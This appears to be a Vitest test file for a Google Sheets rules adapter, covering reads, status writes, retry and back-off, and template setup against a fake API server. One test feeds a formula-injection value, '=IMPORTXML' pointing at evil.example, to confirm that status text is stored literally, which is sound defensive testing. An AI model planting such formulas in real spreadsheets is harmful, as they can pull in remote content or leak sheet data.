import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  backoffDelayMs,
  GoogleRulesSheet,
  type GoogleRulesSheetOptions,
  GoogleSheetsError,
  gridRange,
  parseRetryAfter,
  serviceAccountAuth,
} from '#sheets-sync/google-sheets.js';
import { rulesToRows } from '#sheets-sync/rules-sheet.js';
import { sampleRules } from '#test/fakes/sample-cart.js';
import {
  fakeServiceAccount,
  type GoogleApiServer,
  startGoogleApiServer,
} from '#test/peers/google-api-server.js';

let google: GoogleApiServer;
let sheets = 0;

beforeAll(async () => {
  google = await startGoogleApiServer();
});

afterAll(async () => {
  await google?.stop();
});

/** A fresh spreadsheet holding `tabs`, and an adapter on it whose waits are recorded, not slept. */
function fresh(tabs: Record<string, (string | number)[][]>, options: Partial<GoogleRulesSheetOptions> = {}) {
  const spreadsheetId = `sheet-${++sheets}-abcdefghij`;
  google.addSpreadsheet(spreadsheetId, tabs);
  const waits: number[] = [];
  const sheet = new GoogleRulesSheet({
    spreadsheetId,
    serviceAccount: google.serviceAccount,
    rootUrl: google.rootUrl,
    sleep: async (ms) => {
      waits.push(ms);
    },
    random: () => 0.5,
    ...options,
  });
  return { spreadsheetId, sheet, waits };
}

describe('GoogleRulesSheet', () => {
  it('reads columns A:D of the Rules tab as unformatted values, signed with a self-signed JWT', async () => {
    // Prepare
    const { sheet } = fresh({
      Carts: [['Cart ID']],
      Rules: [
        ['Name', 'Cart total from', 'x', 'y', 'ignored E'],
        ['small', 0, 4, 24],
        [],
        ['Quiet hours start', 0.875],
      ],
    });
    const before = google.requests.length;

    // Act
    const rows = await sheet.readRules();

    // Assess
    expect(rows).toEqual([
      ['Name', 'Cart total from', 'x', 'y'],
      ['small', 0, 4, 24],
      [],
      ['Quiet hours start', 0.875],
    ]);
    expect(google.requests.slice(before)).toEqual([
      { method: 'GET', operation: 'values.get', status: 200, range: "'Rules'!A:D" },
    ]);
  });

  it('reads a tab whose name needs quoting', async () => {
    // Prepare
    const { sheet } = fresh({ "Owner's rules": [['Name']] }, { tab: "Owner's rules" });

    // Act
    const rows = await sheet.readRules();

    // Assess
    expect(rows).toEqual([['Name']]);
  });

  it('writes the status cell as plain text, never as a formula', async () => {
    // Prepare
    const { sheet, spreadsheetId } = fresh({ Rules: [['Name']] });

    // Act
    await sheet.writeStatus('=IMPORTXML("https://evil.example")\nline two');

    // Assess
    expect(google.cell(spreadsheetId, 'Rules!F1')).toBe('=IMPORTXML("https://evil.example")\nline two');
  });

  it('writes the status to a cell of another tab, cut to 5,000 characters', async () => {
    // Prepare
    const { sheet, spreadsheetId } = fresh({ Rules: [], Status: [] }, { statusCell: 'Status!B2' });

    // Act
    await sheet.writeStatus('x'.repeat(6_000));

    // Assess
    const status = google.cell(spreadsheetId, 'Status!B2');
    expect(typeof status === 'string' && status.length).toBe(5_000);
    expect(String(status).endsWith('…')).toBe(true);
    expect(google.cell(spreadsheetId, 'Rules!F1')).toBeUndefined();
  });

  it('accepts an injected auth client', async () => {
    // Prepare
    const { sheet } = fresh(
      { Rules: [['Name']] },
      { serviceAccount: undefined, authClient: serviceAccountAuth(google.serviceAccount) },
    );

    // Act
    const rows = await sheet.readRules();

    // Assess
    expect(rows).toEqual([['Name']]);
  });

  it('fails at once, without retrying, when Google refuses the key', async () => {
    // Prepare
    const stranger = fakeServiceAccount('stranger@other-project.iam.gserviceaccount.com');
    const { sheet, waits } = fresh({ Rules: [['Name']] }, { serviceAccount: stranger });

    // Act
    const failure = await sheet.readRules().catch((error: unknown) => error);

    // Assess
    expect(failure).toBeInstanceOf(GoogleSheetsError);
    expect((failure as GoogleSheetsError).status).toBe(401);
    expect(sheet.requests['values.get']).toBe(1);
    expect(waits).toEqual([]);
  });

  it('waits out 429s for at least their Retry-After, then succeeds', async () => {
    // Prepare
    const { sheet, waits } = fresh({ Rules: [['Name']] });
    google.failNext(2, { status: 429, retryAfterSeconds: 3 });

    // Act
    const rows = await sheet.readRules();

    // Assess
    expect(rows).toEqual([['Name']]);
    expect(sheet.requests['values.get']).toBe(3);
    expect(waits).toHaveLength(2);
    for (const wait of waits) {
      expect(wait).toBeGreaterThanOrEqual(3_000);
      expect(wait).toBeLessThan(3_500);
    }
  });

  it('backs off with growing jittered waits on 5xx and gives up after its tries', async () => {
    // Prepare
    const { sheet, waits } = fresh(
      { Rules: [['Name']] },
      { retry: { attempts: 4, baseDelayMs: 100, maxDelayMs: 300 } },
    );
    google.failNext(4, { status: 503 });

    // Act
    const failure = await sheet.readRules().catch((error: unknown) => error);

    // Assess
    expect(failure).toBeInstanceOf(GoogleSheetsError);
    expect((failure as GoogleSheetsError).status).toBe(503);
    expect(sheet.requests['values.get']).toBe(4);
    // random() = 0.5 of the ceilings 100, 200, 300 (capped)
    expect(waits).toEqual([50, 100, 150]);
  });

  it('does not wait for a Retry-After beyond its limit', async () => {
    // Prepare
    const { sheet, waits } = fresh({ Rules: [['Name']] });
    google.failNext(1, { status: 429, retryAfterSeconds: 3600 });

    // Act
    const failure = await sheet.readRules().catch((error: unknown) => error);

    // Assess
    expect((failure as GoogleSheetsError).status).toBe(429);
    expect(sheet.requests['values.get']).toBe(1);
    expect(waits).toEqual([]);
  });

  it('lays out a missing Rules tab from the template, with notes, validation and formats', async () => {
    // Prepare
    const { sheet, spreadsheetId } = fresh({ Carts: [['Cart ID', 'Email']] });
    const template = rulesToRows(sampleRules());

    // Act
    const result = await sheet.ensureRulesTab(template);

    // Assess
    expect(result.created).toBe(true);
    expect(google.values(spreadsheetId, 'Rules')).toEqual(template.values);
    const dressing = google.dressing(spreadsheetId, 'Rules');
    expect(dressing.notes).toEqual(Object.fromEntries(template.notes.map((n) => [n.cell, n.note])));
    expect(dressing.validations).toContainEqual({
      range: 'C2:C4',
      rule: {
        condition: {
          type: 'NUMBER_BETWEEN',
          values: [{ userEnteredValue: '0.25' }, { userEnteredValue: '168' }],
        },
        inputMessage: expect.stringContaining('First reminder after'),
        strict: true,
        showCustomUi: false,
      },
    });
    expect(dressing.validations).toContainEqual({
      range: 'B2:B4',
      rule: expect.objectContaining({
        condition: { type: 'NUMBER_GREATER_THAN_EQ', values: [{ userEnteredValue: '0' }] },
      }),
    });
    expect(dressing.validations).toContainEqual({
      range: 'B13',
      rule: expect.objectContaining({
        condition: {
          type: 'ONE_OF_LIST',
          values: [
            { userEnteredValue: 'any' },
            { userEnteredValue: 'first_only' },
            { userEnteredValue: 'required' },
          ],
        },
        showCustomUi: true,
      }),
    });
    expect(dressing.formats.B7).toEqual({ numberFormat: { type: 'TEXT' } });
    expect(dressing.formats.A1).toEqual({ textFormat: { bold: true } });
  });

  it('leaves an existing Rules tab as the owner left it', async () => {
    // Prepare
    const { sheet, spreadsheetId } = fresh({ Rules: [['Name', 'edited by the owner']] });

    // Act
    const result = await sheet.ensureRulesTab(rulesToRows(sampleRules()));

    // Assess
    expect(result).toEqual({ created: false, sheetId: 0 });
    expect(google.values(spreadsheetId, 'Rules')).toEqual([['Name', 'edited by the owner']]);
  });
});

describe('back-off arithmetic', () => {
  it('reads Retry-After as seconds or as an HTTP date', () => {
    const now = new Date('2026-06-10T14:00:00Z');
    expect(parseRetryAfter('7', now)).toBe(7_000);
    expect(parseRetryAfter('Wed, 10 Jun 2026 14:00:30 GMT', now)).toBe(30_000);
    expect(parseRetryAfter('Wed, 10 Jun 2026 13:00:00 GMT', now)).toBe(0);
    expect(parseRetryAfter('soon', now)).toBeUndefined();
    expect(parseRetryAfter(undefined, now)).toBeUndefined();
  });

  it('jitters under a doubling ceiling, and adds jitter on top of Retry-After', () => {
    const options = { baseDelayMs: 500, maxDelayMs: 8_000 };
    expect([1, 2, 3, 4, 5, 6].map((n) => backoffDelayMs(n, undefined, options, () => 0.999))).toEqual([
      499, 999, 1998, 3996, 7992, 7992,
    ]);
    expect(backoffDelayMs(3, undefined, options, () => 0)).toBe(0);
    expect(backoffDelayMs(1, 4_000, options, () => 0.5)).toBe(4_250);
  });

  it('turns A1 ranges into zero-based, end-exclusive grid ranges', () => {
    expect(gridRange(7, 'B2:C3')).toEqual({
      sheetId: 7,
      startRowIndex: 1,
      endRowIndex: 3,
      startColumnIndex: 1,
      endColumnIndex: 3,
    });
    expect(gridRange(0, 'AA10')).toEqual({
      sheetId: 0,
      startRowIndex: 9,
      endRowIndex: 10,
      startColumnIndex: 26,
      endColumnIndex: 27,
    });
  });
});
